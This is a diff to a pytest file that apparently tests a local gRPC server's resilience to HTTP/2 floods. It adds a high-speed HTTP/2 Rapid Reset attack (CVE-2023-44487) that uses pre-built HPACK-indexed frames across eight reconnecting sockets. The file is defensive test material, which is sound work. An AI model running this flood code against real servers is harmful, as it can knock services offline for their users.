@@ -5,7 +5,7 @@ import time
 import pytest
 
 from http2 import (DATA, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, Http2, frame,
-                   message)
+                   message, text)
 from victim import CLASSIFY, SHORT_MESSAGE
 
 SECONDS = 2
@@ -49,9 +49,6 @@ def test_floods_of_frames(victim, name):
         figures["turns"] = flood(victim, FRAMES[name])
 
 
-# The gRPC library keeps memory of calls that were reset until it has come round to them: on a fast
-# machine up to 2.5 GB, where the bound is 300 MB.
-@pytest.mark.slow
 @pytest.mark.parametrize("whole", [False, True], ids=["headers", "whole calls"])
 def test_rapid_reset(victim, whole):
     """Streams opened and reset in one breath (CVE-2023-44487)."""
@@ -72,6 +69,45 @@ def test_rapid_reset(victim, whole):
 
     with victim.watched() as figures:
         figures["turns"] = flood(victim, make)
+
+
+def test_rapid_reset_as_fast_as_the_server_reads(victim):
+    """Calls of 28 bytes, made beforehand: every field of their heads is in the HPACK table."""
+    indexed = bytes(range(0xC3, 0xBD, -1))  # The six fields, as begin() sends them first.
+    sent = b"".join(frame(HEADERS, 4, number, indexed) +
+                    frame(RST_STREAM, 0, number, b"\x00\x00\x00\x08")
+                    for number in range(3, 400_000, 2))
+
+    def begin():
+        attacker = Http2(victim.grpc_port).await_settings()
+        fields = [(":method", "POST"), (":scheme", "http"), (":path", CLASSIFY),
+                  (":authority", "localhost"), ("te", "trailers"),
+                  ("content-type", "application/grpc")]
+        attacker.send(frame(HEADERS, 4, 1, b"".join(
+            b"\x40" + text(name) + text(value) for name, value in fields)))
+        attacker.reset(1)
+        attacker.socket.setblocking(False)
+        return attacker, memoryview(sent)
+
+    with victim.watched() as figures:
+        figures["sent_MB"] = 0
+        attackers = [begin() for _ in range(8)]
+        end = time.monotonic() + SECONDS
+        while time.monotonic() < end:
+            for i, (attacker, rest) in enumerate(attackers):
+                try:
+                    count = attacker.socket.send(rest[:1 << 16])
+                except BlockingIOError:
+                    continue
+                except OSError:
+                    count = 0
+                figures["sent_MB"] += count / 1e6
+                attackers[i] = (attacker, rest[count:])
+                if count == 0:
+                    attacker.close()
+                    attackers[i] = begin()
+        for attacker, _ in attackers:
+            attacker.close()
 
 
 def test_endless_headers(victim):
